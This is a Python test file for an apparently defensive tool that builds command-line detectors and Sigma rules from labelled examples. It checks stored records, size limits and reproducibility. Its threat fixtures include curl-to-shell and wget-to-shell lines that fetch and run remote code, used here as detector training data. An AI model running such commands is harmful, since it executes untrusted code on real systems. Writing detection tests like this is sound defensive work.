"""What a detector keeps for a rule: enough, no more than fits, and nothing of this machine."""

import hashlib
import json
import shutil
from pathlib import Path

import pytest

from inoculate.domain import Batch
from inoculate.errors import ArtifactError, InputError
from inoculate.registry import DOMAINS, RULES
from inoculate.store.manifest import RECORDS_FILE
from inoculate.store.records import read_records
from inoculate.workflows import keeping
from inoculate.workflows.adapt import AdaptRequest, adapt
from inoculate.workflows.intake import Intake
from inoculate.workflows.rule import make_rule
from inoculate.workflows.rule_request import RuleRequest
from inoculate.workflows.show import kept

DATA = Path(__file__).parent.parent / "data"
THREAT = [f"curl -s http://203.0.113.{i}/x | sh -s {i}" for i in range(4)]
BENIGN = [f"ls -la /srv/{i}" if i % 3 else f"curl -s http://repo/{i} -o f{i}" for i in range(150)]


def adapted(folder, *, threat=THREAT, benign=BENIGN, **more):
    (folder / "few.txt").write_text("\n".join(threat) + "\n")
    (folder / "week.txt").write_text("\n".join(benign) + "\n")
    request = AdaptRequest(
        **{
            "examples": (str(folder / "few.txt"),), "background": (str(folder / "week.txt"),),
            "threats": ("pipe",), "out": folder / "pipe.detector", "format": "commands",
            "learner": "k_nearest",
        } | more
    )  # fmt: skip
    return adapt(request)


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("kept")
    adapted(folder)
    return folder


def records(folder):
    path = folder / "pipe.detector" / RECORDS_FILE
    return read_records(path.read_bytes(), path)


def rule(folder, **more):
    return make_rule(RuleRequest(detector=folder / "pipe.detector", format="sigma", **more))


def test_a_rule_needs_no_source_again(folder):
    report = rule(folder)
    assert (report.examples, report.alarms) == (4, (0, 150))
    for name in ("few.txt", "week.txt"):
        digest = hashlib.sha256((folder / name).read_bytes()).hexdigest()
        assert f"{name} (sha256 {digest})" in report.text
    assert "kept with the detector" in report.text and str(folder) not in report.text


def test_sources_that_are_named_are_taken_in_place_of_what_was_kept(folder, tmp_path):
    other = tmp_path / "other.txt"
    other.write_text("\n".join(f"wget http://b/{i} | sh -s" for i in range(40)) + "\n")
    report = rule(folder, background=(str(other),), input_format="commands")
    assert report.alarms == (0, 40)
    assert any("curl" in t.condition.value for clause in report.rule.clauses for t in clause)
    mixed = tmp_path / "mixed.txt"
    mixed.write_text("\n".join([*BENIGN, THREAT[0]]) + "\n")
    report = rule(folder, background=(str(mixed),), input_format="commands")
    assert report.alarms == (0, 150)
    assert "1 background record the same as an example, left out" in report.notes


def test_nothing_of_this_machine_is_kept(folder):
    content = (folder / "pipe.detector" / RECORDS_FILE).read_text()
    assert str(folder) not in content and "few.txt" not in content
    assert kept(folder / "pipe.detector").startswith("4 examples, 150 background records (")


def test_the_same_seed_keeps_the_same(folder, tmp_path):
    adapted(tmp_path)
    files = [f / "pipe.detector" / RECORDS_FILE for f in (folder, tmp_path)]
    assert files[0].read_bytes() == files[1].read_bytes()


def test_without_records_the_rule_asks_for_them_and_nothing_is_kept(tmp_path):
    adapted(tmp_path, keep_records=False)
    assert not (tmp_path / "pipe.detector" / RECORDS_FILE).exists()
    assert kept(tmp_path / "pipe.detector") == ""
    with pytest.raises(InputError, match="give --examples or --pairs and --background again"):
        rule(tmp_path)
    with pytest.raises(InputError, match="give --background again"):
        rule(tmp_path, examples=(str(tmp_path / "few.txt"),), input_format="commands")


def test_background_is_a_sample_that_fits(tmp_path, monkeypatch):
    monkeypatch.setattr(keeping, "MOST_BYTES", 6_000)
    adapted(tmp_path)
    rows = [r.row["text"] for r in records(tmp_path) if r.role == "background"]
    assert (tmp_path / "pipe.detector" / RECORDS_FILE).stat().st_size <= 6_000
    assert 20 < len(rows) < 100
    order = [BENIGN.index(text) for text in rows]
    assert order == sorted(order) and order != list(range(len(order)))


def test_examples_that_do_not_fit_are_not_kept_in_part(tmp_path, monkeypatch):
    monkeypatch.setattr(keeping, "MOST_BYTES", 600)
    report = adapted(tmp_path)
    assert not (tmp_path / "pipe.detector" / RECORDS_FILE).exists()
    assert any("no record is kept" in note for note in report.notes)


def test_an_example_is_not_kept_as_background_too(tmp_path):
    (tmp_path / "all.jsonl").write_text(
        "".join(json.dumps({"command": c, "label": "pipe"}) + "\n" for c in THREAT)
        + "".join(json.dumps({"command": c, "label": ""}) + "\n" for c in BENIGN)
    )
    both = (str(tmp_path / "all.jsonl"),)
    adapted(tmp_path, examples=both, background=both, label="label")
    assert not {r.row["text"] for r in records(tmp_path) if r.role == "background"} & set(THREAT)


@pytest.mark.parametrize("change", ['"commands"', '"zeek_conn"', '"nonsense"', '"pe"'])
def test_records_of_another_kind_are_refused(folder, tmp_path, change):
    place = tmp_path / "pipe.detector"
    shutil.copytree(folder / "pipe.detector", place)
    content = (place / RECORDS_FILE).read_bytes().replace(b'"commands"', change.encode())
    (place / RECORDS_FILE).write_bytes(content)
    manifest = json.loads((place / "manifest.json").read_text())
    if change == '"commands"':
        (place / RECORDS_FILE).write_bytes(content + b" ")
    else:
        manifest["files"][RECORDS_FILE] = hashlib.sha256(content).hexdigest()
        (place / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(ArtifactError, match=r"records\.jsonl"):
        rule(tmp_path)


RULED = frozenset().union(*(RULES.load(n).kinds for n in RULES.names())) - {"pe", "elf"}


@pytest.mark.parametrize(
    "name", [n for n in DOMAINS.names() if DOMAINS.load(n).kind in RULED]
)  # of pe and elf the sources are read again
def test_a_kept_row_tells_the_same_facts(name):
    sample_of = sorted(DATA.glob(f"{name}.*")) + sorted((DATA / name).glob("*.*"))
    domain = DOMAINS.load(name)()
    _, batch = next(iter(Intake(name).read([str(sample_of[0])])))
    frame = Batch(batch.frame.head(20)).frame
    rows = list(keeping._plain(frame))
    told = [domain.facts(row) for row in frame.iter_rows(named=True)]
    assert any(told) and [domain.facts(row) for row in rows] == told
